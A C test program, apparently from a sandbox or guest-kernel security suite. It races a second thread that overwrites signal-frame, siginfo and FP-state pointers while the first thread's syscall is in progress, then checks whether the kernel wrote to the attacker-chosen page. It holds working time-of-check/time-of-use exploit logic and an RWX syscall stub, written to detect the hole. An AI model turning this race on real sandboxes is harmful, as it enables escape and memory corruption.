// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * While one thread is in the guest's kernel, which has read its frame, another
 * writes addresses of its own choice over those of the frame: what the kernel
 * writes when the call is over must be where it had been checked to be. ROUNDS.
 */
#include "attack.h"

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>

#define BUSY		6
#define AWAY_NS		10000000UL	/* how long a call takes */
#define READ_NS		1000000UL	/* and when the kernel has surely read its frame */

enum { MOVE_FRAME, MOVE_INFO, MOVE_FP, NR_MOVES };
static const char *const names[] = { "frame", "siginfo", "FP state" };

static volatile struct r3_slot *slot;
static char *page;			/* ours, and the parent looks */
static long (*call)(long nr, const void *a, void *b);
static volatile int away, moving, move;
static volatile unsigned long place;

static unsigned long now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000UL + t.tv_nsec;
}

/* The word that says where a part of the frame is. */
static volatile unsigned long *word_of(int which)
{
	if (which == MOVE_FRAME)
		return (volatile unsigned long *)&slot->uc;
	if (which == MOVE_INFO)
		return (volatile unsigned long *)&slot->info;
	return (volatile unsigned long *)&((struct frame *)slot->uc)->fpstate;
}

static void *mover(void *unused)
{
	volatile unsigned long *word;
	unsigned long since;

	stay_on(1);
	for (;;) {
		while (!away || slot->event != 1 || slot->sig != SIGSYS)
			__asm__ volatile("pause");
		for (since = now(); now() - since < READ_NS; )
			;
		if (!away)
			continue;
		moving = 1;
		word = word_of(move);
		shared->word[0]++;
		while (away)
			*word = place;
		moving = 0;
	}
	return NULL;
}

/* A call instruction that is never rewritten: its page is writable. */
static void make_call(void)
{
	static const unsigned char code[] = {
		0x89, 0xf8,			/* mov %edi, %eax */
		0x48, 0x89, 0xf7,		/* mov %rsi, %rdi */
		0x48, 0x89, 0xd6,		/* mov %rdx, %rsi */
		0x0f, 0x05, 0xc3,		/* syscall; ret */
	};
	void *p = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED)
		cannot("no memory");
	memcpy(p, code, sizeof(code));
	call = p;
}

/* A page of the slot's own neighbours in the guest's memory: ours. */
static unsigned long own_place(void)
{
	unsigned long mine, its;

	memset(page, 1, PAGE);
	readable(NOWHERE);
	mine = physical((unsigned long)page);
	its = physical((unsigned long)slot);
	return mine && its ? (unsigned long)slot + (mine - its) : 0;
}

static int moved(long which)
{
	struct timespec t = { 0, AWAY_NS };
	pthread_t thread;

	slot = (void *)stay_on(0);
	move = which;
	be_stopped();
	place = own_place();
	if (!place || pthread_create(&thread, NULL, mover, NULL))
		return 3;
	call(SYS_getppid, NULL, NULL);
	away = 1;
	call(SYS_nanosleep, &t, NULL);
	away = 0;
	while (moving)
		__asm__ volatile("pause");
	shared->word[1]++;
	return 0;
}

int main(int argc, char **argv)
{
	int i, rounds = argc > 1 ? atoi(argv[1]) : 10;

	attack_init();
	if (cpus() == 1) {
		printf("one CPU: nobody runs while a thread is in the kernel, but in its place\n");
		return attack_end();
	}
	stay_on(0);
	make_call();
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		cannot("no memory");
	/* Longer where a busy host has let no thread run at the right moment. */
	for (i = 0; i < rounds * NR_MOVES * (shared->word[0] ? 1 : BUSY) && !shared->through; i++) {
		memset(page, 1, PAGE);
		in_child(moved, i % NR_MOVES, 300);
		if (page_changed(page))
			through("the kernel used a %s where a thread had moved it meanwhile", names[i % NR_MOVES]);
	}
	printf("%lu frames were moved while their thread was away, %lu threads came back\n",
	       shared->word[0], shared->word[1]);
	if (!shared->word[0])
		cannot("no frame was moved");
	return attack_end();
}
